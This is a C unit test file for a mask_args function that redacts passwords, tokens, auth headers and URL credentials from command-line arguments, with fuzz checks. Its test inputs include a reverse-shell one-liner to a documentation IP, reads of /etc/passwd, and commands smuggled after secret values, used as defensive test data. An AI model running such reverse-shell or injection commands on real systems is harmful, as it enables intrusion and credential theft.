// SPDX-License-Identifier: Apache-2.0
/* What is a secret in arguments, what is not, and any bytes at all. */
#include "support/unit.h"
#include "tests/event/random_row.h"
#include "user/event/mask.h"

#include <string.h>

/* Spaces stand for NULs, _ for a space inside an argument. */
static void assert_masked(const char *before, const char *after)
{
	char args[256];
	size_t len = strlen(before) + 1;

	memcpy(args, before, len);
	for (size_t i = 0; i < len; i++)
		args[i] = args[i] == ' ' ? 0 : args[i] == '_' ? ' ' : args[i];
	len = mask_args(args, len);
	assert_true(len > 0 && args[len - 1] == 0);
	for (size_t i = 0; i + 1 < len; i++)
		args[i] = args[i] == 0 ? ' ' : args[i] == ' ' ? '_' : args[i];
	assert_string_equal(args, after);
}

static void named_values__masked(void **state)
{
	(void)state;
	assert_masked("mysql --password=hunter2 -u root",
		      "mysql --password=*** -u root");
	assert_masked("mysql --PassWord hunter2 -u root",
		      "mysql --PassWord *** -u root");
	assert_masked("env PGPASSWORD=abcdef psql", "env PGPASSWORD=*** psql");
	assert_masked("x --api-key=k --token t", "x --api-key=* --token *");
	assert_masked("helm --set=db.password=abcd",
		      "helm --set=db.password=***");
	assert_masked("curl -H X-Auth-Token:_abcd h",
		      "curl -H X-Auth-Token:_*** h");
	assert_masked("curl -H Authorization:_Bearer_abcd h",
		      "curl -H Authorization:_***_*** h");
	assert_masked("curl -d {\"password\":_\"abcd\",\"u\":\"me\"}",
		      "curl -d {\"password\":_\"***\",\"u\":\"me\"}");
	assert_masked("curl http://h/?token=abcd&user=me",
		      "curl http://h/?token=***&user=me");
	assert_masked("sh -c mysql_--password='abcd'_-u_root",
		      "sh -c mysql_--password='***'_-u_root");
	assert_masked("git clone https://me:abcd@h:8443/r.git",
		      "git clone https://me:***@h:8443/r.git");
}

static void no_secrets__unchanged(void **state)
{
	static const char *const plain[] = {
		"id",
		"",
		"cat /etc/passwd",
		"grep password /etc/login.defs",
		"passwd root",
		"docker run -v /etc/passwd:/mnt sh",
		"tokenize --tokens=5 token",
		"x --password",
		"x --password= y",
		"x --password --verbose",
		"curl http://h:80/a@b",
		"bash -c bash_-i_>&/dev/tcp/192.0.2.1/4444_0>&1",
		"ssh-keygen --token-file=/a",
		"a:b =c :d",
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(plain); i++)
		assert_masked(plain[i], plain[i]);
}

/* A name does not hide what a shell would run after its value. */
static void shell_behind_a_value__stays(void **state)
{
	(void)state;
	assert_masked("sh -c token=abcd;bash_-i", "sh -c token=***;bash_-i");
	assert_masked("sh -c --token|bash_-i", "sh -c --token|bash_-i");
	assert_masked("sh -c token=$(bash_-i)", "sh -c token=*(bash_-i)");
	assert_masked("x --token bash_-i_/dev/tcp",
		      "x --token ***_-i_/dev/tcp");
}

/* Never longer, as many arguments, and nothing more to mask afterwards. */
static void any_bytes__bounded_and_stable(void **state)
{
	static const char *const parts[] = { "password", "token", "=",	":",
					     " ",	 "\"",	  "--", "://",
					     "@",	 "/",	  "x",	"\xff",
					     "a;b",	 "secret" };
	struct rng rng = { 11 };

	(void)state;
	for (int round = 0; round < 20000; round++) {
		char args[256], again[256];
		size_t len = 0, masked, nuls = 0;

		while (len < 200 && rng_below(&rng, 30)) {
			const char *part =
				parts[rng_below(&rng, ARRAY_SIZE(parts))];

			strcpy(args + len, part);
			len += strlen(part) + rng_below(&rng, 2);
		}
		for (size_t i = 0; i < len; i++)
			nuls += args[i] == 0;
		masked = mask_args(args, len);
		assert_true(masked <= len);
		for (size_t i = 0; i < masked; i++)
			nuls -= args[i] == 0;
		assert_int_equal(nuls, 0);
		memcpy(again, args, masked);
		assert_int_equal(mask_args(again, masked), masked);
		assert_memory_equal(again, args, masked);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(named_values__masked),
		cmocka_unit_test(no_secrets__unchanged),
		cmocka_unit_test(shell_behind_a_value__stays),
		cmocka_unit_test(any_bytes__bounded_and_stable),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
